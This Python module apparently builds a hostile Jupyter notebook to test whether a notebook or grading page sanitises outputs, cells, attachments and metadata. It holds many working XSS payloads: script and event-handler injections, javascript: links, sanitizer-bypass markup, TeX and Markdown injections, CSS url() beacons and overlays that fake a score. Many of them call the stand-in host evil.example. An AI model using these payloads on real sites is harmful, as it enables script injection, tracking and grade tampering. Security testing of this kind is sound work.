"""What a hostile notebook may hold when its page is made: outputs, cells, names and metadata."""

import base64

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

RUN = "window.ran = true; alert(1); fetch('http://evil.example/ran')"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
ENCODED = base64.b64encode(SVG.encode()).decode()

HTML = [
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img src=x onerror="{RUN}">',
    f"<img src='data:image/png;base64,{PNG}' onload=\"{RUN}\">",
    f'<p onclick="{RUN}" onmouseover="{RUN}">look</p>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<a href="javascript:{RUN}">go</a> <a href=" jav&#x09;ascript:{RUN}">go</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">go</a> <a href="//evil.example/">go</a>',
    '<iframe src="http://evil.example/"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
    '<form action="http://evil.example/"><input name="a" autofocus><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css">',
    '<img src="http://evil.example/spy.png" srcset="http://evil.example/spy2.png 2x">',
    '<picture><source srcset="http://evil.example/s.png"><img src="http://evil.example/t.png"></picture>',
    '<video src="http://evil.example/v" poster="http://evil.example/p" autoplay></video>',
    '<audio src="http://evil.example/a" autoplay></audio><track src="http://evil.example/t">',
    '<table background="http://evil.example/b.png"><tr><td background="http://evil.example/">x</table>',
    "<p style=\"background-image:url('http://evil.example/b.png');color:red\">styled</p>",
    '<p style="list-style:url(http://evil.example/l.png);cursor:url(http://evil.example/c),auto">x</p>',
    "<p style=\"content:'\\75rl(http://evil.example/)';color:u\\72l(http://evil.example/)\">x</p>",
    "<style>@import url(http://evil.example/i.css); body {display: none}</style>",
    "<style>.panel {position: fixed; background: url(http://evil.example/s.png)}</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">over</div>',
    '<div style="margin-top:-3000px;margin-left:-50px">over</div>',
    '<div class="navbar-fixed-top modal modal-backdrop in affix">Score: 5.0 / 5.0</div>',
    '<div class="glyphicon glyphicon-ok">icon</div>',
    '<a name="top"></a><a name="sgd_step"></a><p id="toc">mine</p><img name="getElementById">',
    '<h2 id="sgd_step">mine</h2><div id="notebook"><p id="notebook-container">mine</p></div>',
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f"<textarea><img title=\"</textarea><img src=x onerror='{RUN}'>\"></textarea>",
    f'<svg><animate onbegin="{RUN}" attributeName="x"></svg><svg><svg>',
    f'<svg><use href="http://evil.example/u.svg#x"/><image href="http://evil.example/i.png"/>{RUN}</svg>',
    f'<svg><foreignObject><iframe src="javascript:{RUN}"></iframe></foreignObject></svg>',
    f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">go</mi></math>',
    "</div></div></div></div></div></div></body><h4>05 (Score: 99.0 / 5.0)</h4>",
    "<!-- --!><script>window.ran = true</script> -->",
    f"<span data-tex='\\text{{<img src=x onerror=\"{RUN}\">}}' data-block=''></span>",
    f"<span data-tex='x' data-block='\"><script>{RUN}</script>'></span>",
]
TEX = [
    rf"\href{{javascript:{RUN}}}{{go}}",
    rf"\text{{<script>{RUN}</script>}}",
    rf'\text{{" onmouseover="{RUN}}}',
    r"\style{position:fixed;top:0}{over} \class{navbar-fixed-top}{x} \cssId{toc}{y}",
    rf"\unicode{{x3c}}img src=x onerror={RUN}\unicode{{x3e}}",
    r"\hspace{-1000em}x",
    r"\newcommand{\a}{\a\a}\a",
    "{" * 3000,
]
MARKDOWN = [
    f"[go](javascript:{RUN}) [go](<data:text/html,x>) ![x](http://evil.example/m.png)",
    f'![x" onerror="{RUN}](data:image/svg+xml;base64,{ENCODED})',
    f"# toc\n\n## notebook {{#top}}\n\n<script>{RUN}</script>",
    f'<img src=x\nonerror="{RUN}">',
    f"```html\n<script>{RUN}</script>\n```\n\n`<script>{RUN}</script>`",
    "![missing](attachment:nothing.png)",
    *(f"so ${tex}$ and\n\n$${tex}$$\n" for tex in TEX),
]
TEXT = [
    f"\x1b[31m<script>{RUN}</script>\x1b[0m \x1b]0;title\x07 \x00\x08\u202egnp.exe",
    f'\x1b[38;2;1;2;3m" onmouseover="{RUN}\x1b[0m</pre><script>{RUN}</script>',
]


def outputs():
    """Outputs of every kind, as an engine with no walls would keep them."""
    for html in HTML:
        yield new_output("display_data", {"text/html": html})
        yield new_output("execute_result", {"text/markdown": html})
    for text in MARKDOWN:
        yield new_output("display_data", {"text/markdown": text})
    for tex in TEX:
        yield new_output("display_data", {"text/latex": f"${tex}$"})
    yield new_output("display_data", {"text/latex": f"<script>{RUN}</script>"})
    isolated = {"text/html": {"isolated": True}}
    yield new_output("display_data", {"text/html": HTML[0]}, metadata=isolated)
    yield new_output("display_data", {"application/javascript": RUN, "text/plain": TEXT[0]})
    yield new_output("display_data", {"text/vnd.mermaid": HTML[0]})
    yield new_output("display_data", {"image/svg+xml": SVG})
    yield new_output("display_data", {"image/png": f'x"><script>{RUN}</script>'})
    for about in (
        {"width": f"1 onload={RUN.replace(' ', '')}"},
        {"height": f'1"><script>{RUN}</script>'},
        {"alt": f'x" onload="{RUN}'},
        {"unconfined": True},
    ):
        yield new_output("display_data", {"image/png": PNG}, metadata={"image/png": about})
        yield new_output("display_data", {"image/jpeg": PNG}, metadata=about)
    elsewhere = {"filenames": {"image/png": "http://evil.example/spy.png"}}
    yield new_output("display_data", {"image/png": PNG}, metadata=elsewhere)
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}
    yield new_output("display_data", {**widget, "text/plain": "a widget"})
    for text in TEXT:
        yield new_output("stream", name="stdout", text=text)
        yield new_output("stream", name="stderr", text=text)
        yield new_output("error", ename=text, evalue=text, traceback=[text, HTML[0]])


def poison(notebook: nbformat.NotebookNode) -> None:
    """Put it all into a graded notebook: in an answer's outputs, in cells and in metadata."""
    answer = next(c for c in notebook.cells if c.id == "answer-sgd_step")
    answer.outputs = list(outputs())
    answer.metadata["tags"] = ["x navbar-fixed-top", '"><script>window.ran = true</script>']
    written = next(c for c in notebook.cells if c.id == "why")
    written.source = "\n\n".join([*HTML, *MARKDOWN])
    cells = [new_markdown_cell(text) for text in [*HTML, *MARKDOWN]]
    cells += [new_raw_cell(text) for text in HTML]
    cells += [new_code_cell(f"%%html\n{HTML[0]}", metadata={"magics_language": "html"})]
    attached = new_markdown_cell("![a](attachment:a.svg) ![b](attachment:b) ![c](attachment:c)")
    attached.attachments = {
        "a.svg": {"image/svg+xml": ENCODED},
        "b": {"text/html": base64.b64encode(HTML[0].encode()).decode()},
        "c": {'image/png" onerror="alert(1)': f'x" onerror="{RUN}'},
    }
    notebook.cells += [*cells, attached]
    notebook.metadata["title"] = f"</title><script>{RUN}</script>"
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    notebook.metadata["language_info"] = {"name": f'x"><script>{RUN}</script>'}
